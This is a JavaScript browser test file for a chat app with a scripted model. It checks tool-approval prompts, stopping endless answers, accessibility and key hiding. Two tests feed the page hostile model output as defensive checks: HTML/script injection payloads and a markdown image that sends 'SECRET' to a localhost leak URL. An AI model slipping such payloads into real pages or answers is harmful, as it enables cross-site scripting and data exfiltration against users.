// The page with a scripted model: approvals, stop, hostile answers, small screens, accessibility.
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { startGitServer } from './git-server.mjs';
import { startModelServer } from './model-server.mjs';
import { openPage, startBrowser, startServer } from './server.mjs';
import { audit } from './stage.mjs';

const manifest = {
  schema: 1, name: 'word', title: 'Word', version: '1.0.0', description: 'Says a word.',
  tasks: [{ name: 'say', description: 'Says it.', effects: 'none',
    parameters: { type: 'object', properties: { to: { type: 'string' } }, required: ['to'], additionalProperties: false } }],
};

describe('the page', () => {
  let model;
  let git;
  let server;
  let browser;
  let context;

  before(async () => {
    model = await startModelServer(() => 'unscripted');
    git = await startGitServer('acme/word', { 'manifest.json': JSON.stringify(manifest), run: '#!/bin/sh\necho "the word is out"\n' });
    server = await startServer({ OPENAI_BASE_URL: model.url, OPENAI_API_KEY: 'sk-test', RUNGPT_GIT_BASE_URL: git.url });
    await server.rungpt('shell', 'rungpt:install acme/word');
    await fetch(`${server.origin}/api/settings`, {
      method: 'PATCH',
      headers: { authorization: `Bearer ${await server.token()}`, 'x-rungpt': '1', 'content-type': 'application/json' },
      body: JSON.stringify({ defaultModel: 'openai/scripted' }),
    });
    browser = await startBrowser();
    const first = await openPage(browser, server);
    context = first.context;
    await first.page.goto(server.loginUrl);
    await first.page.getByText('What shall we run?').waitFor();
    await first.page.close();
  });

  after(async () => {
    await browser?.close();
    await server?.close();
    await git?.close();
    await model?.close();
  });

  async function open(options = {}) {
    const opened = await openPage(browser, server, { storageState: await context.storageState(), ...options });
    await opened.page.goto(server.origin);
    await opened.page.getByLabel('Message').waitFor();
    return opened;
  }

  async function say(page, text) {
    await page.getByLabel('Message').fill(text);
    await page.getByLabel('Message').press('Enter');
  }

  it('asks before the first use of an installed action and tells the model of a denial', async () => {
    model.state.script = (request) =>
      request.last.includes('<result-') ? `I was told: ${/status="(\w+)"/.exec(request.last)[1]}.` : request.call('1', 'word.say', { to: 'me' });
    const { page, problems } = await open();
    await say(page, 'Say the word.');
    await page.getByText('Allow word.say?').waitFor({ timeout: 60_000 });
    await page.getByRole('button', { name: 'Deny' }).click();
    await page.getByText('I was told: denied.').waitFor({ timeout: 30_000 });

    model.state.script = (request) =>
      request.last.includes('<result-') ? 'Thank you.' : request.call('2', 'word.say', { to: 'me' });
    await say(page, 'Again.');
    await page.getByRole('button', { name: 'Allow once' }).click({ timeout: 60_000 });
    await page.getByText('the word is out').first().waitFor({ timeout: 120_000 });
    await page.getByText('Thank you.').waitFor();
    assert.deepEqual(problems, []);
  });

  it('stops an answer that does not end', async () => {
    model.state.script = async function* () {
      for (let i = 0; ; i++) {
        yield `word ${i} `;
        await new Promise((done) => setTimeout(done, 5));
      }
    };
    const { page } = await open();
    await say(page, 'Never end.');
    await page.getByText(/word 20 /).waitFor();
    await page.getByRole('button', { name: 'Stop' }).click();
    await page.getByText('You stopped this answer.').waitFor();
    await page.getByRole('button', { name: 'Continue' }).waitFor();
  });

  it('runs nothing and fetches nothing of a hostile answer', async () => {
    model.state.script = () => [
      'Look:', '',
      '![pixel](http://127.0.0.1:9/leak?d=SECRET)',
      '<img src=x onerror="window.hacked=1"><script>window.hacked=1</script><iframe src="http://127.0.0.1:9/"></iframe>',
      '[click](javascript:window.hacked=1) <svg onload="window.hacked=1"><image href="http://127.0.0.1:9/"/></svg>',
      '<style>@import url(http://127.0.0.1:9/x.css)</style><link rel=prefetch href=http://127.0.0.1:9/>',
      '```html', '<script>window.hacked=1</script>', '```', 'The end of it.',
    ].join('\n');
    const { page, problems } = await open();
    await say(page, 'Attack.');
    await page.getByText('The end of it.').waitFor();
    assert.equal(await page.evaluate(() => window.hacked), undefined);
    assert.equal(await page.locator('iframe, script:not([src])').count(), 0);
    assert.deepEqual(problems, []);
  });

  it('D.49 takes events, names of tools and errors of a hostile model server for what they are: nothing, or text', async () => {
    const hostile = '<img src=x onerror="window.hacked=1"><script>window.hacked=1</script>';
    const { page, problems } = await open();
    try {
      model.state.raw = (request, response) => {
        const send = (lines) => response.write(`${lines}\n\n`);
        response.setHeader('content-type', 'text/event-stream');
        send('event: execute\ndata: {"code":"window.hacked=1"}');
        send(`event: html\ndata: ${JSON.stringify({ type: 'execute', html: hostile })}`);
        send(`data: ${JSON.stringify({ choices: [{ index: 0, delta: { tool_calls: [{ index: 0, id: hostile, function: { name: hostile, arguments: '{}' } }] } }] })}`);
        send(`data: ${JSON.stringify({ choices: [{ index: 0, delta: { content: 'After the events.' }, finish_reason: 'stop' }] })}`);
        response.end('data: [DONE]\n\n');
      };
      await say(page, 'Attack.');
      await page.getByText('After the events.').first().waitFor();
      await page.getByText('The model made the same call 3 times running.').waitFor();
      model.state.raw = (request, response) => {
        response.writeHead(400, { 'content-type': 'application/json' });
        response.end(JSON.stringify({ error: { message: `${hostile}No such <b>luck</b>.`, type: hostile, code: hostile } }));
      };
      await say(page, 'Attack again.');
      await page.getByText('No such <b>luck</b>.').first().waitFor();
    } finally {
      model.state.raw = undefined;
    }
    assert.equal(await page.evaluate(() => window.hacked), undefined);
    assert.equal(await page.locator('img[src="x"], script:not([src])').count(), 0);
    assert.deepEqual(problems, []);
  });

  for (const colorScheme of ['light', 'dark']) {
    for (const width of [360, 1440]) {
      it(`is accessible and fits, ${colorScheme}, ${width} pixels wide`, async () => {
        model.state.script = () => '# Title\n\nSome **text**, `code` and a table:\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```js\nconst x = 1;\n```\n'
          + `| ${'wide | '.repeat(30)}\n|${'---|'.repeat(30)}\n\n\`\`\`\n${'long '.repeat(80)}\n\`\`\`\nThat was it.`;
        const { page, problems } = await open({ colorScheme, viewport: { width, height: 844 } });
        await say(page, 'Format.');
        await page.getByText('That was it.').waitFor();
        assert.ok(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth), 'no horizontal scrolling');
        assert.deepEqual(problems, []);
        assert.deepEqual(await audit(page), []);
      });
    }
  }

  it('on a phone the list of conversations has the keyboard while it is open, and gives it back', async () => {
    const { page, problems } = await open({ viewport: { width: 360, height: 740 } });
    const focused = () => page.evaluate(() => document.activeElement.getAttribute('aria-label'));
    const opener = page.getByRole('button', { name: 'Open the list of conversations' });
    await opener.press('Enter');
    await page.getByRole('navigation', { name: 'Conversations' }).waitFor();
    await page.waitForFunction(() => document.activeElement.closest('.sidebar'));
    assert.equal(await focused(), 'Close the list of conversations');
    for (let n = 0; n < 12; n++) {
      await page.keyboard.press('Tab');
      assert.ok(await page.evaluate(() => document.activeElement.closest('.main') === null), 'not behind it');
    }
    await page.keyboard.press('Escape');
    await page.getByRole('navigation', { name: 'Conversations' }).waitFor({ state: 'detached' });
    await page.waitForFunction(() => document.activeElement.matches('.sidebar-open'));
    await page.keyboard.press('Control+k');
    await page.waitForFunction(() => document.activeElement.matches('.sidebar input'));
    assert.deepEqual(await audit(page), []);
    assert.deepEqual(problems, []);
  });

  it('shows in the settings what is ready, and never a key', async () => {
    const { page } = await open();
    await page.getByRole('button', { name: 'Settings' }).click();
    await page.getByRole('dialog').waitFor();
    assert.ok(!(await page.content()).includes('sk-test'));
    assert.deepEqual(await audit(page), []);
  });
});
